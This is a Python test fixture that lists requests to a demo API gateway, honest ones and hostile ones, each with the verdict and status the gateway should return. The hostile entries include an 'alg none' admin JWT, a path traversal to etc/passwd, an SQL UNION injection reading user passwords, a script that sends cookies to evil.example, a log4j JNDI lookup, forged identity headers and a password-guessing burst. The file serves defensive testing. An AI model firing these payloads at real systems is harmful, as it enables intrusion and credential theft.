"""The traffic of the demo, honest and hostile, as data: what is sent, and what the gateway should decide.

Text may hold placeholders, which the runner replaces in header values (and nowhere else: bodies hold braces):

    {key}          a valid API key
    {jwt}          a valid token
    {expired_jwt}  one that was valid until lately

The steps are meant to be sent in order to a gateway that has just started; the burst comes last, for it uses up what
the address may do.
"""

from __future__ import annotations

import json
from base64 import urlsafe_b64encode
from dataclasses import dataclass
from typing import Literal, TypeAlias

Action: TypeAlias = Literal["allow", "deny", "throttle"]
Headers: TypeAlias = tuple[tuple[str, str], ...]


@dataclass(frozen=True)
class Step:
    """One request, or `repeat` equal ones; then `expect` and `status` speak of the last."""

    title: str
    method: str
    path: str  # goes on the wire as it stands: a client must not resolve its dots or escapes
    headers: Headers = ()
    body: str = ""
    expect: Action = "allow"
    status: int = 200
    repeat: int = 1
    body_size: int = 0  # when positive, send so many bytes of filler instead of `body`
    hides: tuple[str, ...] = ()  # text that must occur neither in the headers of the response nor in its body


def _unsigned_token() -> str:
    """A token that claims to need no signature (RFC 8725, section 2.1)."""
    parts = ({"alg": "none", "typ": "JWT"}, {"sub": "admin", "exp": 4102444800})
    return ".".join(urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in parts) + "."


_KEY: Headers = (("x-api-key", "{key}"),)
_JSON: Headers = (("content-type", "application/json"),)
_FORM = ("content-type", "application/x-www-form-urlencoded")
_ORDER = '{"user_id": 1, "items": [{"product_id": 3, "quantity": 2}]}'
_PLACED = "/orders/61"  # the shop begins with sixty
_COUPON = '{"code": "WELCOME10", "order_id": 1}'
_LOGIN = '{"email": "ada.lind@example.com", "password": "correct-horse-1"}'
_GUESS = '{"email": "ada.lind@example.com", "password": "123456"}'
_REVEALING = ("shop/1.0", "careless-framework")
_INTERNALS = ("Traceback", "/shop/", "not-a-real-password", *_REVEALING)


def _bearer(token: str) -> Headers:
    return (("authorization", f"Bearer {token}"),)


_HONEST = (
    Step("health needs no key", "GET", "/health"),
    Step("products, with an API key", "GET", "/products?page=2&size=5", _KEY),
    Step("one product, with a JWT", "GET", "/products/3", _bearer("{jwt}")),
    Step("a product that there is not", "GET", "/products/999", _KEY, status=404),
    Step("log in", "POST", "/login", _KEY + _JSON, _LOGIN),
    Step("place an order", "POST", "/orders", _KEY + _JSON, _ORDER, status=201),
    Step("look at it", "GET", _PLACED, _KEY),
    Step("redeem a coupon", "POST", "/coupons/redeem", _KEY + _JSON, _COUPON),
)

_STRANGERS = (
    Step("no key", "GET", "/products", expect="deny", status=401),
    Step("a wrong key", "GET", "/products", (("x-api-key", "letmein"),), expect="deny", status=401),
    Step("a mistyped key (checksum)", "GET", "/products", (("x-api-key", "{key}x"),), expect="deny", status=401),
    Step("a JWT with alg none", "GET", "/orders", _bearer(_unsigned_token()), expect="deny", status=401),
    Step("a JWT whose signature was changed", "GET", "/orders", _bearer("{jwt}x"), expect="deny", status=401),
    Step("an expired JWT", "GET", "/orders", _bearer("{expired_jwt}"), expect="deny", status=401),
)

_NOT_THEIRS = (Step("somebody else's order", "GET", _PLACED, _bearer("{jwt}"), expect="deny", status=404),)

_MALFORMED = (
    Step("a method that nobody needs", "TRACE", "/products", _KEY, expect="deny", status=405),
    Step("a body that is too large", "POST", "/orders", _KEY + _JSON, expect="deny", status=413, body_size=11 << 20),
    Step("path traversal", "GET", "/orders/..%2f..%2fetc/passwd", _KEY, expect="deny", status=400),
    Step("an escaped NUL", "GET", "/products/1%00.json", _KEY, expect="deny", status=400),
)

_UNION = "/search?q=%27%20UNION%20SELECT%20email,%20password,%20name,%201%20FROM%20users%20--%20"
_SCRIPT = '{"address": "<script>fetch(`//evil.example/${document.cookie}`)</script>"}'
_HALF = '{"user_id": 1, "items": [{"product_id": 3, "quantity": 0.5}]}'
_PROMOTED = '{"name": "Ada", "role": "admin"}'
_TWICE = '{"user_id": 1, "user_id": 2, "items": [{"product_id": 3, "quantity": 2}]}'

_UNDESCRIBED = (
    Step("half a lamp", "POST", "/orders", _KEY + _JSON, _HALF, expect="deny", status=400),
    Step("a role for oneself", "PATCH", "/users/1", _KEY + _JSON, _PROMOTED, expect="deny", status=400),
    Step("a member that stands twice", "POST", "/orders", _KEY + _JSON, _TWICE, expect="deny", status=400),
    Step("a page that is no number", "GET", "/products?page=two", _KEY, expect="deny", status=400),
    Step("a parameter that nobody described", "GET", "/products?debug=1", _KEY, expect="deny", status=400),
    Step("a path that nobody described", "GET", "/admin", _KEY, expect="deny", status=404),
    Step("a form in place of JSON", "POST", "/login", (*_KEY, _FORM), _GUESS, expect="deny", status=415),
)

_INJECTED = (
    Step("a search in plain words", "GET", "/search?q=select+the+best+lamp", _KEY),
    Step("SQL in a search", "GET", _UNION, _KEY, expect="deny", status=403),
    Step("a script in an address", "PATCH", "/users/1", _KEY + _JSON, _SCRIPT, expect="deny", status=403),
    Step(
        "a look-up by log4j",
        "GET",
        "/products",
        (*_KEY, ("user-agent", "${{jndi:ldap://evil.example/a}}")),
        expect="deny",
        status=403,
    ),
)

_FORGED = (
    Step(
        "a forged identity does not arrive",
        "GET",
        "/whoami",
        (*_KEY, ("x-stockade-principal", "admin")),
        hides=('"x-stockade-principal":"admin"',),
    ),
    Step("a forged client address", "GET", "/whoami", (*_KEY, ("x-forwarded-for", "203.0.113.66"))),
)

_LEAKS = (
    Step("revealing headers are removed", "GET", "/products/1", _KEY, hides=_REVEALING),
    Step("a password hash stays here", "GET", "/users/1", _KEY, hides=("password_hash", "passwordHash")),
    Step("a traceback is hidden", "GET", "/error", _KEY, status=500, hides=_INTERNALS),
    Step("an SQL error is hidden", "GET", "/search?q=%27", _KEY, status=500, hides=("sqlite3", *_INTERNALS)),
)

_BURST = (
    Step("60 guesses at a password", "POST", "/login", _KEY + _JSON, _GUESS, expect="throttle", status=429, repeat=60),
    Step(
        "and on, under a forged address",
        "POST",
        "/login",
        (*_KEY, *_JSON, ("x-forwarded-for", "203.0.113.67")),
        _GUESS,
        expect="throttle",
        status=429,
        repeat=3,
    ),
)

STEPS: tuple[Step, ...] = (
    _HONEST + _STRANGERS + _NOT_THEIRS + _MALFORMED + _UNDESCRIBED + _INJECTED + _FORGED + _LEAKS + _BURST
)
